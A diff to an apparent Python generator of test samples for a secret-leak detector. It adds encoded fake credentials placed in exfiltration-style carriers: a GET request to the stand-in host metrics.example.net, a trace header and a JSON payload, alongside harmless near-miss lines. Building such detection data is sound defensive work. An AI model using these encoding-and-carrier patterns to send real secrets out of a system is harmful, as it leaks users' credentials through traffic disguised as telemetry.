@@ -190,6 +190,28 @@ CONTEXTS: dict[str, str] = {
 }
 
 
+# Credentials an exfiltrating tool or model sends encoded: family -> how, in which carrier.
+ENCODED_FAMILIES = (
+    "aws_access_key",
+    "github_token",
+    "stripe_secret_key",
+    "openai_api_key",
+    "slack_token",
+)
+ENCODINGS: dict[str, Callable[[str], str]] = {
+    "base64": lambda s: base64.b64encode(s.encode()).decode(),
+    "base64url": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
+    "hex": lambda s: s.encode().hex(),
+    "base64_assignment": lambda s: base64.b64encode(f"api_key = {s}\n".encode()).decode(),
+    "base64_twice": lambda s: base64.b64encode(base64.b64encode(s.encode())).decode(),
+}
+CARRIERS = (
+    "GET /collect?d={e}&v=2 HTTP/1.1\nHost: metrics.example.net\n",
+    "X-Trace-Context: {e}\n",
+    '{{"event": "sync", "payload": "{e}"}}',
+)
+
+
 def _placeholder_lines(rng: random.Random) -> list[str]:
     return [
         "AWS_ACCESS_KEY_ID=your-access-key-id",
@@ -259,6 +281,14 @@ def near_misses(rng: random.Random) -> list[tuple[str, str]]:
             )
         )
         out.append((f"md5 {_s(rng, HEX, 32)}  release-{rng.randint(1, 9)}.tar.gz", "checksum"))
+        prose = rng.choice(
+            [
+                "The quarterly report is ready for review.",
+                '{"alg": "HS256", "typ": "JWT"}',
+                "user=7781 region=eu-west-1 status=ok",
+            ]
+        )
+        out.append((f"X-Trace-Context: {base64.b64encode(prose.encode()).decode()}", "base64_text"))
     out += [(line, "placeholder") for line in _placeholder_lines(rng) for _ in range(4)]
     return out
 
@@ -276,5 +306,10 @@ def build(seed: int = 1337, per_rule: int = 24) -> list[Sample]:
         for _ in range(per_rule):
             snippet, secret = make_snippet(rng)
             samples.append(Sample(f"# config\n{snippet}\n", secret, family, "snippet"))
+    for family in ENCODED_FAMILIES:
+        for i, (encoding, encode) in enumerate(sorted(ENCODINGS.items())):
+            encoded = encode(TOKENS[family](rng))
+            carrier = CARRIERS[i % len(CARRIERS)]
+            samples.append(Sample(carrier.format(e=encoded), encoded, family, encoding))
     samples += [Sample(text, None, kind, "near_miss") for text, kind in near_misses(rng)]
     return samples
